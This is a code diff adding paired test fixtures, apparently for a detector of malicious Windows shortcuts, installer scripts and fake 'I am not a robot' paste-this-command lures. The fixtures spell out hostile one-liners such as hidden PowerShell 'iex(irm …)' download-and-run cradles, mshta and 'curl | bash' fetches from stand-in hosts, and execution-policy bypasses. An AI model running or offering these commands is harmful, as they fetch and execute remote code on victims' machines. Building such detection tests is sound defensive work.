@@ -148,10 +148,91 @@ const TOLD = pairs([
   ],
 ])
 
+const POWERSHELL = `${SYSTEM}WindowsPowerShell\\v1.0\\powershell.exe`
+const backup = (args: string, more: object = {}): Uint8Array => shortcut({ environment: POWERSHELL, args, ...more })
+const OWN_SCRIPT = '-NoProfile -ExecutionPolicy Bypass -File "C:\\Scripts\\Backup all.ps1"'
+const LOCAL = pairs([
+  ['a minimized window', backup(OWN_SCRIPT, { isMinimized: true }), backup(OWN_SCRIPT, { folder: 'C:\\Scripts' })],
+  ['a hidden window', backup(`-w hidden ${OWN_SCRIPT}`), backup(`-NoLogo ${OWN_SCRIPT} -Target USB`)],
+  [
+    'a folder of anyone',
+    backup('-ep bypass -File C:\\Users\\Public\\a.ps1'),
+    backup('-ep bypass -File C:\\Scripts\\a.ps1'),
+  ],
+  [
+    'a folder of all programs',
+    backup('-ep bypass -File "C:\\ProgramData\\a\\a.ps1"'),
+    backup('-NoExit -f C:\\IT\\tools\\a.ps1'),
+  ],
+  ['a script of a server', backup(`-ep bypass -File \\\\${SERVER}\\a\\a.ps1`), backup(OWN_SCRIPT)],
+  ['code behind it', backup(`${OWN_SCRIPT}; iex(irm http://${SERVER}/a)`), backup(OWN_SCRIPT)],
+  [
+    'code in place of a file',
+    backup(`-ep bypass -c iex(irm http://${SERVER}/a) -File "C:\\Scripts\\a.ps1"`),
+    backup(OWN_SCRIPT),
+  ],
+])
+
+const SEVEN_ZIP = "@{ Url='https://www.7-zip.org/a/7z2501-x64.msi'; Arg='/qn' }"
+const FIREFOX = "@{ Url='https://download.mozilla.org/?product=firefox-msi-latest-ssl&os=win64'; Arg='/qn' }"
+const OTHER = "@{ Url='https://files.example/a.msi'; Arg='/qn' }"
+const prepare = (list: string, more = '', address = '$p.Url'): Uint8Array =>
+  file(
+    'prepare.ps1',
+    `$tmp = Join-Path $env:TEMP 'setup'\n$packages = @(\n  ${list}\n)\n${more}\nforeach ($p in $packages) {\n  $f = Join-Path $tmp ([guid]::NewGuid().ToString() + '.msi')\n  Invoke-WebRequest -Uri ${address} -OutFile $f -UseBasicParsing\n  if ((Get-AuthenticodeSignature $f).Status -ne 'Valid') { continue }\n  Start-Process msiexec.exe -ArgumentList "/i \`"$f\`" $($p.Arg)" -Wait\n}\nAdd-MpPreference -ExclusionPath 'D:\\Data\\DB'\n`,
+  )
+const MAKERS = pairs([
+  ['another server', prepare(OTHER), prepare(SEVEN_ZIP)],
+  ['a second server', prepare(`${SEVEN_ZIP},\n  ${OTHER}`), prepare(`${SEVEN_ZIP},\n  ${FIREFOX}`)],
+  ['another name of the address', prepare(`${SEVEN_ZIP}, @{ 'Url'='files.example/a.msi' }`), prepare(FIREFOX)],
+  ['a longer list', prepare(SEVEN_ZIP, `$packages += ${OTHER}`), prepare(SEVEN_ZIP, '$count = 0')],
+  ['a changed list', prepare(SEVEN_ZIP, `[void]$packages.Add(${OTHER})`), prepare(FIREFOX, '$all = @()')],
+  [
+    'a changed address',
+    prepare(SEVEN_ZIP, '', "$p.Url.Replace('www.7-zip.org', 'files.example')"),
+    prepare("'https://www.7-zip.org/a/7z2501-x64.msi',\n  'https://nodejs.org/dist/v22.1.0/a.msi'", '', '$p'),
+  ],
+])
+
+const warning = (command: string, more = ''): Uint8Array =>
+  Buffer.from(
+    `Some pages say "I am not a robot" and ask you to press Windows + R, to paste with Ctrl + V and to press Enter.\r\nThe line is like this:\r\n\r\n    ${command}\r\n\r\nCall 4711 if you did so.${more}\r\n`,
+  )
+const DEAD = 'hxxps://files[.]example/a'
+const LIVE = 'https://files.example/a'
+const hiddenFetch = (address: string): string => `powershell -w hidden -c "iex (irm ${address})"`
+const WARNINGS = pairs([
+  [
+    'a live address',
+    warning(`${hiddenFetch(LIVE)} # I am not a robot`),
+    warning(`${hiddenFetch(DEAD)} # I am not a robot`),
+  ],
+  ['a live address beside it', warning(`${hiddenFetch(LIVE)} # ${DEAD}`), warning(`mshta ${DEAD}.hta`)],
+  [
+    'a second command',
+    warning(`mshta ${DEAD}\r\n    mshta ${LIVE}`),
+    warning(`mshta ${DEAD}\r\n    curl -s ${DEAD} | bash`),
+  ],
+  ['a second command in a line', warning(`cmd /c curl ${DEAD} & mshta ${LIVE}`), warning(`cmd /c mshta ${DEAD}`)],
+  [
+    'an address that is put right',
+    warning(hiddenFetch(`('${DEAD}' -replace 'hxx','htt' -replace '\\[\\.\\]','.')`)),
+    warning(`powershell -nop -c "iex ((New-Object Net.WebClient).DownloadString('${DEAD}'))"`),
+  ],
+  [
+    'no address',
+    warning(`powershell -w hidden -c "iex (gcb)" # ${DEAD}`),
+    warning('powershell -w hidden -c "iex (irm https://files[.]example/a)"'),
+  ],
+])
+
 export const ADMINISTRATION: Readonly<Record<string, readonly Pair[]>> = {
   'shortcuts to a file server': SHORTCUTS,
   'hidden windows of a logon script': LOGON,
   'installers beside an exclusion': INSTALLERS,
   'tests with commands of attackers': TESTS,
   'commands for a terminal': TOLD,
+  'shortcuts to scripts of this computer': LOCAL,
+  'lists of installers beside an exclusion': MAKERS,
+  'warnings that quote a command': WARNINGS,
 }
